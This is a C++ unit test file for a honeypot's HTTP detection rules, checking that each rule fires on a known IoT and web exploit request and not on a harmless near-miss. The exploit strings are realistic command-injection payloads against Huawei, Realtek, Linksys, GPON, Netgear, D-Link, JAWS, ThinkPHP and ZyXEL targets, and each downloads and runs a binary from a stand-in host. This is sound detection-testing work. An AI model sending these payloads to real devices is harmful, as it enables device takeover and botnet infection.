#include <fstream>
#include <set>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "honeypot/http/http_parser.h"
#include "honeypot/http/http_rules.h"
#include "support/temp_dir.h"

namespace kansoku::honeypot::http {
namespace {

HttpRequestRecord parseOne(const std::string& text) {
    HttpRequestParser parser;
    std::vector<HttpRequestRecord> out;
    parser.feed({reinterpret_cast<const uint8_t*>(text.data()), text.size()}, out);
    parser.finish(out);
    EXPECT_EQ(out.size(), 1u) << text;
    return out.empty() ? HttpRequestRecord{} : out[0];
}

std::string post(const std::string& target, const std::string& body, const std::string& extra = "") {
    return "POST " + target + " HTTP/1.1\r\nHost: 192.0.2.10\r\n" + extra +
           "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

std::string get(const std::string& target) {
    return "GET " + target + " HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: Mozilla/5.0\r\n\r\n";
}

class HttpRulesTest : public ::testing::Test {
protected:
    static void SetUpTestSuite() {
        auto loaded = HttpRuleSet::loadDirectory(std::string(KANSOKU_SOURCE_DIR) + "/rules/http");
        ASSERT_TRUE(loaded) << loaded.error().message;
        rules_ = new HttpRuleSet(std::move(*loaded));
    }
    static void TearDownTestSuite() {
        delete rules_;
        rules_ = nullptr;
    }
    static std::set<std::string> ids(const std::string& request) {
        std::set<std::string> out;
        for (const auto& m : rules_->match(parseOne(request))) {
            out.insert(m.id);
        }
        return out;
    }
    static HttpRuleSet* rules_;
};
HttpRuleSet* HttpRulesTest::rules_ = nullptr;

struct Case {
    const char* rule;
    std::string exploit;
    std::string near_miss;
};

std::vector<Case> cases() {
    return {
        {"http-huawei-hg532-upnp-cve-2017-17215",
         post("/ctrlt/DeviceUpgrade_1",
              "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
              "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade "
              "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g "
              "198.51.100.9 -l /tmp/mips -r /okiru.mips;chmod 777 /tmp/mips;/tmp/mips huawei.rep)</NewStatusURL>"
              "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>",
              "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\"\r\n"),
         post("/ctrlt/DeviceUpgrade_1", "<u:Upgrade><NewStatusURL>http://192.0.2.1/status</NewStatusURL></u:Upgrade>")},
        {"http-realtek-miniigd-upnp-cve-2014-8361",
         post("/picsdesc.xml",
              "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping "
              "xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewRemoteHost></NewRemoteHost>"
              "<NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol>"
              "<NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; rm -rf nig; wget "
              "http://198.51.100.9/bins/mips -O nig; chmod 777 nig; ./nig realtek`</NewInternalClient>"
              "</u:AddPortMapping></s:Body></s:Envelope>",
              "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n"),
         post("/picsdesc.xml",
              "<u:AddPortMapping><NewInternalClient>192.168.1.20</NewInternalClient></u:AddPortMapping>",
              "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n")},
        {"http-linksys-tmunblock-themoon",
         post("/tmUnblock.cgi",
              "%73%75%62%6d%69%74%5f%62%75%74%74%6f%6e=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2"
              "&ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F198.51.100.9%2Fmoon%60&StartEPI=1"),
         post("/tmUnblock.cgi", "submit_button=&ttcp_ip=192.0.2.5&StartEPI=1")},
        {"http-gpon-diag-form-cve-2018-10561-10562",
         post("/GponForm/diag_Form?images/",
              "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.9/"
              "gpon+-O+->+/tmp/gpon`;sh+/tmp/gpon&ipv=0"),
         post("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&dest_host=8.8.8.8&ipv=0")},
        {"http-netgear-setup-cgi-syscmd",
         get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/Mozi.m+-O+"
             "/tmp/netgearb;sh+netgearb&curpath=/&currentsetting.htm=1"),
         get("/setup.cgi?next_file=index.htm&todo=save")},
        {"http-dlink-dsl2750b-login-cli-cve-2016-20017",
         get("/login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.9/d%20-O%20-%3E%20/tmp/d;sh%20/tmp/d%27$"),
         get("/login.cgi?username=admin&password=admin")},
        {"http-jaws-mvpower-dvr-shell-cve-2016-20016",
         get("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws"), get("/shell.htm?x=1")},
        {"http-thinkphp-invokefunction-cve-2018-20062",
         get("/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system"
             "&vars[1][]=wget%20http://198.51.100.9/t.sh"),
         get("/index.php?s=/index/index/hello&name=thinkphp")},
        {"http-zyxel-viewlog-remote-host-cve-2017-18368",
         post("/cgi-bin/ViewLog.asp",
              "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;"
              "wget+http://198.51.100.9/z;chmod+777+z;./z;%23&remoteSubmit=Save"),
         post("/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_host=192.0.2.50&remoteSubmit=Save")},
        {"http-generic-command-injection-download", get("/cgi-bin/x.cgi?ip=127.0.0.1%7Ccurl%20-O%20198.51.100.9/c"),
         get("/download?file=wget-1.21.tar.gz&mirror=curl")},
    };
}

TEST_F(HttpRulesTest, EachRuleMatchesItsExploitNotItsNearMiss) {
    ASSERT_GE(rules_->rules().size(), 10u);
    for (const auto& c : cases()) {
        SCOPED_TRACE(c.rule);
        EXPECT_TRUE(ids(c.exploit).count(c.rule)) << c.exploit;
        EXPECT_FALSE(ids(c.near_miss).count(c.rule)) << c.near_miss;
    }
}

TEST_F(HttpRulesTest, EveryRuleHasACase) {
    std::set<std::string> covered;
    for (const auto& c : cases()) {
        covered.insert(c.rule);
    }
    for (const auto& rule : rules_->rules()) {
        EXPECT_TRUE(covered.count(rule.id)) << rule.id << " has no test case";
        EXPECT_FALSE(rule.references.empty());
    }
}

TEST_F(HttpRulesTest, GenericRuleCatchesTheInjectionsToo) {
    for (const auto& c : cases()) {
        if (std::string(c.rule) == "http-jaws-mvpower-dvr-shell-cve-2016-20016" ||
            std::string(c.rule) == "http-thinkphp-invokefunction-cve-2018-20062") {
            continue; // no metacharacter before the download tool
        }
        EXPECT_TRUE(ids(c.exploit).count("http-generic-command-injection-download")) << c.rule;
    }
}

TEST_F(HttpRulesTest, OrdinaryBrowsingMatchesNothing) {
    const std::vector<std::string> browsing = {
        get("/"),
        get("/index.html"),
        get("/favicon.ico"),
        get("/search?q=how+to+use+wget+and+curl&lang=en"),
        "GET /static/app.js HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Wget/1.21.3\r\nCookie: a=1; theme=dark\r\nAccept: "
        "text/html,application/xhtml+xml;q=0.9\r\n\r\n",
        post("/login.htm", "username=admin&password=hunter2"),
        post("/api/v1/items", "{\"name\": \"curl; a pipe | b\", \"note\": \"see busybox docs\"}",
             "Content-Type: application/json\r\n"),
    };
    for (const auto& request : browsing) {
        EXPECT_TRUE(ids(request).empty()) << request;
    }
}

TEST(HttpRuleLoading, BadRegexNamesFileAndRule) {
    auto r = HttpRuleSet::parse(R"([[rule]]
id = "bad-one"
name = "x"
references = ["CVE-0000-0000"]
[[rule.match]]
field = "path"
regex = '(unclosed'
)",
                                "rules/http/bad.toml");
    ASSERT_FALSE(r);
    EXPECT_NE(r.error().message.find("rules/http/bad.toml"), std::string::npos) << r.error().message;
    EXPECT_NE(r.error().message.find("'bad-one'"), std::string::npos) << r.error().message;
    EXPECT_NE(r.error().message.find("bad regex"), std::string::npos) << r.error().message;
    EXPECT_EQ(r.error().message.find('\n'), std::string::npos);
}

TEST(HttpRuleLoading, RejectsIncompleteRules) {
    const char* kBad[] = {
        "[[rule]]\nname = \"x\"\nreferences=[\"a\"]\n[[rule.match]]\nfield=\"path\"\ncontains=\"a\"\n",
        "[[rule]]\nid = \"a\"\nreferences=[\"a\"]\n[[rule.match]]\nfield=\"path\"\ncontains=\"a\"\n",
        "[[rule]]\nid = \"a\"\nname=\"x\"\n[[rule.match]]\nfield=\"path\"\ncontains=\"a\"\n",
        "[[rule]]\nid = \"a\"\nname=\"x\"\nreferences=[\"a\"]\n",
        "[[rule]]\nid = \"a\"\nname=\"x\"\nreferences=[\"a\"]\n[[rule.match]]\nfield=\"nope\"\ncontains=\"a\"\n",
        "[[rule]]\nid = \"a\"\nname=\"x\"\nreferences=[\"a\"]\n[[rule.match]]\nfield=\"path\"\ncontains=\"a\"\n"
        "regex=\"b\"\n",
        "[[rule]]\nid = \"a\"\nname=\"x\"\nreferences=[\"a\"]\nextra=1\n[[rule.match]]\nfield=\"path\"\n"
        "contains=\"a\"\n",
    };
    for (const char* text : kBad) {
        EXPECT_FALSE(HttpRuleSet::parse(text, "t.toml")) << text;
    }
}

TEST(HttpRuleLoading, DuplicateIdsAcrossFiles) {
    testing::TempDir dir;
    const char* kRule = "[[rule]]\nid = \"same\"\nname=\"x\"\nreferences=[\"a\"]\n[[rule.match]]\nfield=\"path\"\n"
                        "contains=\"a\"\n";
    std::ofstream(dir.file("a.toml")) << kRule;
    std::ofstream(dir.file("b.toml")) << kRule;
    auto r = HttpRuleSet::loadDirectory(dir.path().string());
    ASSERT_FALSE(r);
    EXPECT_NE(r.error().message.find("b.toml"), std::string::npos) << r.error().message;
    EXPECT_NE(r.error().message.find("duplicate"), std::string::npos) << r.error().message;
}

TEST(HttpRuleMatching, HeaderFieldAndNocase) {
    auto r = HttpRuleSet::parse(R"([[rule]]
id = "ua"
name = "ua"
references = ["x"]
[[rule.match]]
field = "header:user-agent"
contains = "HELLO"
nocase = true
)",
                                "t.toml");
    ASSERT_TRUE(r) << r.error().message;
    EXPECT_EQ(r->match(parseOne("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: say hello\r\n\r\n")).size(), 1u);
    EXPECT_TRUE(r->match(parseOne("GET /hello HTTP/1.1\r\nHost: a\r\nUser-Agent: bye\r\n\r\n")).empty());
}

} // namespace
} // namespace kansoku::honeypot::http
